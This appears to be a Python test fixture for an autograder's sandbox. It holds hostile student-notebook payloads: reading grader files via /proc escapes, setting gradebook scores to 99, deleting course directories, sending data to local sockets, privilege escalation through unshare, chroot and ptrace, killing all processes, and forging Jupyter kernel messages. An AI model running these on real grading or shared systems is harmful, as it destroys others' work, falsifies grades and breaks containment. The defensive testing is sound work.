"""Programs that reach out of the notebook: for files, marks, other students, the network and other processes."""

from __future__ import annotations

from tests.autograder.grading_zoo import TASKS, Animal, book
from tests.autograder.grading_zoo.cheats import TRUE_NUMBER

ENDED = "The notebook's run ended early"
EVERYTHING = TASKS

TRIED = """
def tried(action):
    try:
        print(action())
    except BaseException as error:
        print(type(error).__name__, error)
"""
READ = (
    TRIED
    + """
import os
tried(lambda: open(CANARY).read())
for base in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../../../..", f"/proc/{os.getppid()}/root"):
    tried(lambda: open(base + CANARY).read())
tried(lambda: os.listdir(os.path.dirname(CANARY)))
tried(lambda: os.popen("cat " + CANARY + " 2>&1").read())
"""
)
SYMLINK = (
    TRIED
    + """
import os
for target in (CANARY, ROOT + "/source/small/small.ipynb", ROOT + "/autograder/gradebook.db"):
    tried(lambda: os.symlink(target, os.path.basename(target)))
    tried(lambda: open(os.path.basename(target)).read())
    tried(lambda: os.link(target, "hard-" + os.path.basename(target)))
"""
)
GRADEBOOK = (
    TRIED
    + """
import sqlite3, glob
def raised():
    book = sqlite3.connect(ROOT + "/autograder/gradebook.db")
    book.execute("update grade set auto_score = 99, manual_score = 99")
    book.commit()
tried(raised)
tried(lambda: open(ROOT + "/autograder/records/half-right/small.json", "w").write("{}"))
tried(lambda: __import__("os").makedirs(ROOT + "/autograder/records/intruder"))
"""
)
OVERWRITE = (
    TRIED
    + """
import pathlib
for name in ("source", "release", "autograder/submitted", "autograder/feedback"):
    tried(lambda: [path.write_text("overwritten") for path in pathlib.Path(ROOT, name).rglob("*.*")] or "nothing there")
    tried(lambda: pathlib.Path(ROOT, name, "intruder").mkdir(parents=True))
import course, autograder, site
for place in (course.__file__, autograder.__file__, site.getsitepackages()[0] + "/intruder.pth"):
    tried(lambda: pathlib.Path(place).write_text("import os"))
tried(lambda: pathlib.Path(course.__file__).with_name("intruder.py").write_text("1"))
"""
)
DELETE = (
    TRIED
    + """
import shutil, os
for name in ("source", "release", "autograder/submitted", "autograder/records", ""):
    tried(lambda: shutil.rmtree(os.path.join(ROOT, name)))
tried(lambda: os.remove(CANARY))
tried(lambda: os.rename(ROOT, ROOT + "-gone"))
"""
)
SEND = (
    TRIED
    + """
import socket
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "10.0.2.2", "host.docker.internal"):
    tried(lambda: socket.create_connection((host, PORT), 1).sendall(b"everything I know"))
tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"everything", ("127.0.0.1", PORT)))
tried(lambda: __import__("urllib.request").request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1))
tried(lambda: open("/dev/tcp/127.0.0.1/1"))
"""
)
STAY = (
    TRIED
    + """
import os, subprocess
tried(lambda: subprocess.Popen(["setsid", "nohup", "sleep", "987654"], start_new_session=True))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "987654"])
    os._exit(0)
"""
)
RIGHTS = (
    TRIED
    + """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
tried(lambda: libc.unshare(0x10000000 | 0x00020000))
tried(lambda: libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))
tried(lambda: libc.ptrace(16, os.getppid(), 0, 0))
tried(lambda: libc.chroot(b"/proc/1/root"))
for command in ("unshare -Ur cat", "nsenter -t 1 -a cat", "sudo -n cat", "chroot /proc/1/root cat", "mount"):
    tried(lambda: subprocess.run([*command.split(), CANARY], capture_output=True, text=True, timeout=5))
tried(lambda: os.setuid(0))
tried(lambda: open(f"/proc/{os.getppid()}/mem", "r+b").write(b"x"))
"""
)
FORGE = (
    TRIED
    + """
import json, zmq
from ipykernel.connect import get_connection_file
info = json.load(open(get_connection_file()))
from jupyter_client.session import Session
session = Session(key=info["key"].encode(), signature_scheme=info["signature_scheme"])
kernel = get_ipython().kernel
for n in range(20):
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent={})
    content = {"data": {"text/plain": "2.0"}, "execution_count": n, "metadata": {}}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent())
odd = ({"data": {"text/plain": 5, "text/html": [1]}, "metadata": 3}, {"data": None}, {"name": 5, "text": None})
odd += ({"ename": 1, "evalue": [2], "traceback": "abc"}, {"ename": "x", "evalue": "", "traceback": [1, None]}, {})
for kind in ("display_data", "stream", "error", "execute_result", "clear_output", "comm_open", "?"):
    for content in odd:
        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
"""
)
SOCKETS = (
    TRIED
    + """
import os
from ipykernel.connect import get_connection_file
import json
folder = os.path.dirname(json.load(open(get_connection_file()))["ip"])
tried(lambda: os.symlink(CANARY, folder + "/stolen"))
tried(lambda: open(folder + "/stolen", "w").write("x"))
import time
time.sleep(2)
"""
)
TRIES = {
    "reads a file of the grader": READ,
    "makes links to files of the grader": SYMLINK,
    "edits the gradebook": GRADEBOOK,
    "overwrites source and release": OVERWRITE,
    "deletes the work of others": DELETE,
    "sends over the network": SEND,
    "leaves a process behind": STAY,
    "asks for more rights": RIGHTS,
}

KILLS = """
import os, signal
for number in (*range(2, 100_000), -1):
    try: os.kill(number, signal.SIGKILL)
    except OSError: pass
os._exit(1)
"""
ENDS = {
    "exits at once": "import os\nos._exit(0)",
    "kills itself": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "kills its parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos._exit(1)",
    "kills everything": KILLS,
    "crashes": "import ctypes\nctypes.string_at(0)",
}

IN_FUNCTION = f"""
def sectors(addresses, size):
    import os, shutil, socket, sqlite3
    for action in (
        lambda: socket.create_connection(("127.0.0.1", PORT), 1).sendall(open(CANARY, "rb").read()),
        lambda: shutil.rmtree(ROOT), lambda: open(CANARY, "w").write("x"),
        lambda: sqlite3.connect(ROOT + "/autograder/gradebook.db").execute("delete from grade"),
    ):
        try: action()
        except Exception: pass
    return {TRUE_NUMBER}
"""
TELLS = """
def sectors(addresses, size):
    try:
        text = open(CANARY).read()
    except OSError as error:
        text = "closed"
    raise type("E" + text, (Exception,), {})(text)
"""
IN_QUIZ = """
import os
q1 = dict(sectors=os.popen("cat " + CANARY).read(), shape=open(ROOT + "/source/small/small.ipynb").read())
"""

ANIMALS = (
    *(Animal(name, book(*EVERYTHING, first=text), right=EVERYTHING) for name, text in TRIES.items()),
    *(Animal(name, book(*EVERYTHING, first=text), right=EVERYTHING, flag=f": {ENDED}") for name, text in ENDS.items()),
    Animal("forges messages of the kernel", book(*EVERYTHING, first=FORGE), right=EVERYTHING, flag=f": {ENDED}"),
    Animal("files among the sockets", book(*EVERYTHING, first=SOCKETS), right=EVERYTHING, flag=f": {ENDED}"),
    Animal("function that reaches out", book("q1", sectors=IN_FUNCTION), right=("q1", "sectors")),
    Animal("function that tells", book("q1", sectors=TELLS), right=("q1",)),
    Animal("quiz answer that reads files", book("q8", q1=IN_QUIZ), right=("q8",), flag="q1: Not verified"),
)
